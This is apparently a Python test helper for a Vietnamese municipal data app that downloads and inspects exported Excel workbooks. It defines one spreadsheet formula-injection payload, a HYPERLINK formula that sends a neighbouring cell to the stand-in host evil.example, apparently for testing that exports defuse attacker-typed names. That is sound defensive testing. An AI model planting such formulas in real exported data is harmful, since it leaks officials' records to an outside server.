"""Reading the workbooks pages hand out, for the tests of every export."""

import io
import re
from urllib.parse import urlencode

from openpyxl import load_workbook

from ntm.core.spreadsheets import XLSX
from ntm.core.text import fold

# A text an attacker would type into a name so that an official's Excel
# sends the neighbouring cell to a server of theirs.
FORMULA = '=HYPERLINK("http://evil.example/?d="&F2,"x")'


def workbook_of(response, content=None):
    """The downloaded workbook (an .xlsx answer that no cache keeps); a
    streamed answer's ``content`` when it was read already."""
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert response["Cache-Control"] == "no-store"
    return load_workbook(io.BytesIO(content or content_of(response)))


def content_of(response):
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


PURPOSE = "Rà soát số liệu của xã"


def exported(client, url, params=None, *, purpose=PURPOSE):
    """The download of an export job (ntm/core/exports.py), asked for on its
    request page as a person would: the tasks run inline in the tests, so
    the job's page offers the file at once."""
    query = f"?{urlencode(params, doseq=True)}" if params else ""
    page = client.get(url + query)
    assert page.status_code == 200, page.status_code
    started = client.post(url + query, {"purpose": purpose})
    assert started.status_code == 302, started.content.decode()[:2000]
    job = client.get(started["Location"])
    assert job.status_code == 200
    download = re.search(r'href="(/tep-xuat/\d+/tai-ve/)"', job.content.decode())
    assert download, job.content.decode()
    return client.get(download[1])


def export_workbook(client, url, params=None, *, purpose=PURPOSE):
    return workbook_of(exported(client, url, params, purpose=purpose))


def column(sheet, title):
    """The cells under the header ``title``, from row 2 down."""
    header = [cell.value for cell in sheet[1]]
    index = header.index(title)
    return [row[index] for row in sheet.iter_rows(min_row=2)]


def notes(book):
    """{folded label: value} of the workbook's "Thông tin" sheet."""
    return {
        fold(str(label)): value
        for label, value in book["Thông tin"].iter_rows(values_only=True)
    }


def is_number(cell):
    return cell.data_type == "n" and isinstance(cell.value, int | float)


def is_text(cell, text):
    return cell.data_type == "s" and cell.value == text
